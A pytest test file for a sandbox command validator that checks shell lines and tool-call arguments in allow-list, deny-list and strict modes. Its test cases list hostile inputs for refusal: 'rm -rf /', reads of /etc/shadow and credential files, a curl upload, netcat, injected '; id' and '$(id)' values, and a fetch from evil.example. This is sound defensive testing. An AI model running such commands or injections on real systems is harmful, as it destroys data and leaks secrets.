"""`sandbox`: command lines and values for them, in its three modes."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatewright.validators.options import BadOptions
from gatewright.validators.registry import checks_for
from gatewright.validators.sandbox import Value, prepare


def rule(line: Any, **options: Any) -> str | None:
    found = prepare(options).judge(line)
    return None if found is None else found.rule


@pytest.mark.parametrize(
    "line",
    [
        "ls -la",
        "grep 'a|b' notes.txt",
        'echo "do not rm -rf /; it is dangerous"',
        "echo /etc/shadow is a file",
        "grep -rn /etc/passwd docs",
        "grep -n 'rm -rf' README.md",
        "wc -l reboot.log",
        'stat "a & b (1).txt"',
        "find . -name '*.py'",
    ],
)
def test_known_programs_in_reading_uses_pass(line: str) -> None:
    assert rule(line) is None


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls; id", "list"),
        ("ls | wc", "pipeline"),
        ("echo $(id)", "command_substitution"),
        ("rm -rf /", "unknown_program"),
        ("cat /etc/shadow", "host_file"),
        ("grep x /etc/shadow", "host_file"),
        ("grep -e x /etc/shadow", "host_file"),
        ("grep -iex /etc/shadow", "host_file"),
        ("rg -iex. /etc/shadow", "host_file"),
        ("grep --file=/etc/shadow x", "host_file"),
        ("sort -o f f", "option"),
        ("find . -delete", "option"),
        ("curl -d @- http://example.net", "sends_away"),
        ("ls\nid", "control_character"),
        (3, "no_command"),
        ([], "no_command"),
        (["ls", 3], "no_command"),
        (["rm", "-rf", "x"], "unknown_program"),
        (["ls", "a\nb"], "control_character"),
        (["ls; id"], "list"),
        (["cat", "/etc/shadow"], "host_file"),
    ],
)
def test_everything_else_is_refused_with_the_reason(line: Any, expected: str) -> None:
    """MGP-4.5-1"""
    found = prepare({}).judge(line)
    assert found is not None
    assert found.rule == expected
    assert found.message.startswith(("has ", "is ", "names ", "starts ", "does ", "sends "))


def test_words_of_a_list_are_never_read_by_a_shell() -> None:
    assert rule(["grep", "a;b", "$(x)"]) is None
    assert rule(["ls"]) is None


def test_pipes_between_known_programs_pass_where_the_operator_says_so() -> None:
    assert rule("cat f | sort -u | head -n 5", pipes=True) is None
    assert rule("cat f | sh", pipes=True) == "unknown_program"
    assert rule("cat f | sort > g", pipes=True) == "redirected_statement"


def test_the_operator_can_name_further_programs() -> None:
    assert rule("deploy --now", programs=["deploy"]) is None
    assert rule("deploy --now; id", programs=["deploy"]) == "list"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("mytool --flag 'a;b' x.txt", None),
        ("cargo2 build", None),
        ("rm f", None),
        ("rm -rf f", "recursive_delete"),
        ("mytool; id", "list"),
        ("sudo ls", "changes_rights"),
        ("bash -c x", "runs_programs"),
        ("nc -l 1", "opens_a_channel"),
        ("reboot", "ends_the_host"),
        ("mytool /etc/shadow", "host_file"),
        ("sort -o f f", "option"),
        ("mytool2 x", None),
    ],
)
def test_the_deny_list_lets_unknown_programs_pass(line: str, expected: str | None) -> None:
    assert rule(line, mode="deny-list") == expected


@pytest.mark.parametrize("line", ["ls 'a b'", "ls *", "ls | wc", "echo $x", "rm -rf x", "ls\nid"])
def test_the_strict_mode_refuses_every_metacharacter(line: str) -> None:
    assert rule(line, mode="strict") is not None
    assert rule("ls -la src", mode="strict") is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("report-2024.txt", None),
        ("-5", None),
        ("-", None),
        ("two words", None),
        ("-rf", "leading_dash"),
        ("--", "leading_dash"),
        ("-1-", "leading_dash"),
        ("-1.5e3", None),
        ("--upload-pack=x", "leading_dash"),
        ("-oProxyCommand=x", "leading_dash"),
        ("a;b", "metacharacter"),
        ("a$x", "metacharacter"),
        ("a\nb", "control_character"),
    ],
)
def test_a_value_is_no_option_and_has_no_metacharacter(text: str, expected: str | None) -> None:
    assert rule(text, value=True) == expected
    found = prepare({}).judge(Value(text))
    assert (found and found.rule) == expected


@pytest.mark.parametrize(
    ("arguments", "where", "expected"),
    [
        ({"command": "ls -la 'a b'"}, None, None),
        ({"command": "ls", "cwd": "/srv/x", "timeout": 5}, None, None),
        ({"command": "ls", "args": ["-la", "a b"]}, None, None),
        ({"command": ["ls", "-la"]}, None, None),
        ({"cmd": "grep", "args": ["a|b", "f"]}, None, None),
        ({"command": "ls; id"}, "/command", "list"),
        ({"command": "rm", "args": ["-rf", "/"]}, "/command", "unknown_program"),
        ({"command": "sort", "args": ["-o", "f"]}, "/command", "option"),
        ({"command": ["sh", "-c", "id"]}, "/command", "option"),
        ({"command": "ls", "cwd": "$(id)"}, "/cwd", "metacharacter"),
        ({"command": "ls", "file": "-rf"}, "/file", "leading_dash"),
        ({"args": ["-rf"]}, "/args/0", "leading_dash"),
        ({"x": "rm -rf /"}, "/x", "recursive_delete"),
        ({"a": [{"command-line": "ls | wc"}]}, "/a/0/command-line", "pipeline"),
        ({"$(id)": 1}, "/$(id)", "metacharacter"),
        ({"command": {"x": "a;b"}}, "/command/x", "metacharacter"),
        ("a;b", "", "metacharacter"),
        (["a", "b;c"], "/1", "metacharacter"),
        (None, None, None),
    ],
)
def test_where_nobody_says_which_arguments_are_commands_all_are_judged(
    arguments: Any, where: str | None, expected: str | None
) -> None:
    """MGP-4.5-1"""
    checks = checks_for("sandbox", {}, {}, "tool")
    assert not isinstance(checks, str)
    found = checks.objection(arguments)
    assert (found and (found[1].path, found[1].rule)) == (expected and (where, expected))


def test_the_strict_mode_judges_all_arguments_together() -> None:
    checks = checks_for("sandbox", {"sandbox": {"mode": "strict"}}, {}, "tool")
    assert not isinstance(checks, str)
    found = checks.objection({"a": ["rm", "x", "-rf"]})
    assert found is not None
    assert found[1].rule == "recursive_delete"


@pytest.mark.parametrize("options", [{"mode": "off"}, {"pipe": True}, {"programs": "x"}])
def test_options_that_cannot_be_used_are_an_error(options: dict[str, Any]) -> None:
    with pytest.raises(BadOptions):
        prepare(options)


@given(
    st.recursive(
        st.none() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text() | st.just("command"), inner),
    )
)
def test_any_arguments_get_a_verdict(arguments: Any) -> None:
    checks = checks_for("sandbox", {}, {}, "tool")
    assert not isinstance(checks, str)
    found = checks.objection(arguments)
    assert found is None or found[1].message


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("status=open", None),
        ("label=a,b", None),
        ("STATUS=open", "assignment"),
        ("https_proxy=http://10.0.0.1", "assignment"),
        ("a=b ls", "assignment"),
        ("a=$b", "metacharacter"),
    ],
)
def test_a_name_and_its_value_are_a_value_where_they_set_nothing(
    text: str, rule: str | None
) -> None:
    """MGP-4.5"""
    found = prepare({"value": True}).judge(text)
    assert (found and found.rule) == rule


def test_the_history_is_shown_and_nothing_else() -> None:
    """MGP-4.5"""
    judge = prepare({"allow": ["reads", "environment"]}).judge
    assert judge("history 20") is None
    assert judge("history -c") is not None
    assert judge("history -w out") is not None


def test_a_line_costs_more_than_a_value_and_both_their_length() -> None:
    lines = prepare({})
    assert 10 * lines.cost(Value("a" * 1000)) < lines.cost("a" * 1000) < 10_000
    assert lines.cost("a" * 2000) < 2 * lines.cost("a" * 1000)
    assert lines.cost("a" * 100_000) < 200_000  # is not parsed
    assert lines.cost(Value("a" * 1000)) < 1000
    assert lines.cost(["a" * 10] * 10) < 1000
    assert lines.cost(7) < 100


@pytest.mark.parametrize(
    "line",
    [
        "openssl list -provider-path ./lib -provider evil",
        "openssl list -commands x",
        "yq ~/.kube/config",
        "yq .env",
        "yq -pprops .env",
        "yq -oj ~/.docker/config.json",
        "yq .env -o json",
        "tar x -f -O",
        "tar -xf -O",
        "tar -xfO a",
        "tar xf -O",
        "tar xfv -O",
        "ffprobe -i 'http:evil.example/x'",
        "ffprobe subfile,,start,0,end,9,,:x.mp4",
    ],
)
def test_what_only_looks_like_reading_is_refused(line: str) -> None:
    """MGP-4.5"""
    assert rule(line) is not None


@pytest.mark.parametrize(
    "line",
    [
        "openssl list -digest-algorithms",
        "yq .env f.yml",
        "yq -o json .a f.yml",
        "tar -xOf a.tgz a/b",
        "tar xfO a.tgz",
        "tar xf a.tgz -O a/b",
        "tar -xf a.tgz -O",
        "ffprobe -v error -show_entries format=duration:stream=codec_name -of default=nw=1:nk=1 a.mp4",
        "ffprobe -select_streams v:0 a.mp4",
    ],
)
def test_its_neighbour_that_reads_passes(line: str) -> None:
    """MGP-4.5"""
    assert rule(line) is None
